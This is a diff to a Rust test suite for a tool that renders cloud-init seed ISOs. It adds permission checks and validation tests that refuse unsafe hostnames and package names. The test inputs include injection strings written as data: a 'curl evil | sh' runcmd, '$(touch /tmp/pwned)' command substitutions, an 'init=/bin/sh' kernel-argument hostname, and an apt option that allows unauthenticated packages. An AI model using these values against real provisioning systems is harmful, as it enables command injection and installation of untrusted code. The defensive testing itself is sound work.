@@ -85,6 +85,12 @@ fn seed_iso_carries_the_three_documents() {
         .map(|e| e.unwrap().file_name())
         .collect();
     assert_eq!(names, ["seed.iso"]);
+    // The seed carries keys and scripts: root only, whatever the umask.
+    {
+        use std::os::unix::fs::PermissionsExt;
+        let mode = fs::metadata(&iso).unwrap().permissions().mode() & 0o777;
+        assert_eq!(mode, 0o600, "seed mode {mode:o}");
+    }
 
     let info = cmd::run("isoinfo", ["-d".as_ref(), "-i".as_ref(), iso.as_os_str()]).unwrap();
     assert!(info.contains("Volume id: cidata"), "{info}");
@@ -169,7 +175,6 @@ fn injection_attempts_stay_literal() {
     let mut s = spec();
     let evil_cmd =
         "x\"\n- [sh, -c, 'curl evil | sh']\nruncmd: [reboot] # \u{85}\u{2028}\u{7f}\u{1F600}'";
-    s.hostname = "h\": 1, \"users\": [], \"x\": \"'&*!|>%@`{}[]#".into();
     s.runcmd = vec!["echo".into(), evil_cmd.into()];
     s.startup_script =
         Some("#!/bin/sh\n---\n... \n%YAML 1.1\n: : :\n\t- \"x\" \\\\ \\u0041\n".into());
@@ -221,6 +226,45 @@ fn what_cannot_be_written_safely_is_refused() {
         ),
         ("hostname newline", Box::new(|s| s.hostname = "a\nb".into())),
         ("empty hostname", Box::new(|s| s.hostname = String::new())),
+        (
+            "hostname json",
+            Box::new(|s| s.hostname = "h\": 1, \"users\": [], \"x\": \"'&*!|>%@`{}[]#".into()),
+        ),
+        ("hostname space", Box::new(|s| s.hostname = "a b".into())),
+        (
+            "hostname kernel arg",
+            Box::new(|s| s.hostname = "h:eth0:off init=/bin/sh".into()),
+        ),
+        (
+            "hostname equals",
+            Box::new(|s| s.hostname = "init=x".into()),
+        ),
+        ("hostname dash", Box::new(|s| s.hostname = "-h".into())),
+        ("hostname label", Box::new(|s| s.hostname = "a..b".into())),
+        (
+            "hostname long label",
+            Box::new(|s| s.hostname = "a".repeat(64)),
+        ),
+        (
+            "hostname long",
+            Box::new(|s| s.hostname = ["a"; 128].join(".")),
+        ),
+        (
+            "package option",
+            Box::new(|s| s.packages = vec!["-oAPT::Get::AllowUnauthenticated=true".into()]),
+        ),
+        (
+            "package dash",
+            Box::new(|s| s.packages = vec!["--yes".into()]),
+        ),
+        (
+            "package upper",
+            Box::new(|s| s.packages = vec!["Htop".into()]),
+        ),
+        (
+            "package empty version",
+            Box::new(|s| s.packages = vec!["htop=".into()]),
+        ),
         ("user", Box::new(|s| s.user = "root;x".into())),
         ("user upper", Box::new(|s| s.user = "Admin".into())),
         ("nul arg", Box::new(|s| s.runcmd = vec!["a\0b".into()])),
@@ -263,6 +307,30 @@ fn what_cannot_be_written_safely_is_refused() {
             "{what} was accepted"
         );
     }
+    // What is valid stays valid.
+    for h in [
+        "web-1",
+        "a",
+        "node7.example.com",
+        "A1-b2",
+        &["a"; 126].join("."),
+    ] {
+        let mut s = spec();
+        s.hostname = h.to_string();
+        assert!(render(&s).is_ok(), "hostname {h:?} refused");
+    }
+    for p in [
+        "htop",
+        "g++",
+        "libc6:amd64",
+        "vim=2:9.0.1378-2",
+        "linux-image-6.1.0-9-amd64",
+        "a~b",
+    ] {
+        let mut s = spec();
+        s.packages = vec![p.to_string()];
+        assert!(render(&s).is_ok(), "package {p:?} refused");
+    }
     // Optional parts left out are left out of the documents.
     let mut s = spec();
     s.runcmd.clear();
@@ -300,7 +368,7 @@ fn the_test_guests_reader_keeps_values_literal() {
     let awk = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../scripts/vm-guest/cloud-config.awk");
     let mut s = spec();
     let evil = "a'b\"c $(touch /tmp/pwned) `id` \\n \\\\ ; | & \u{e9}\u{1F600}\ttab\nline2 '\"'\"'";
-    s.hostname = "host'$(reboot)".into();
+    s.hostname = "host-1.example".into();
     s.runcmd = vec!["printf".into(), "%s".into(), evil.into()];
     s.startup_script = Some(format!("#!/bin/sh\necho '{evil}'\n"));
     s.mounts = vec![
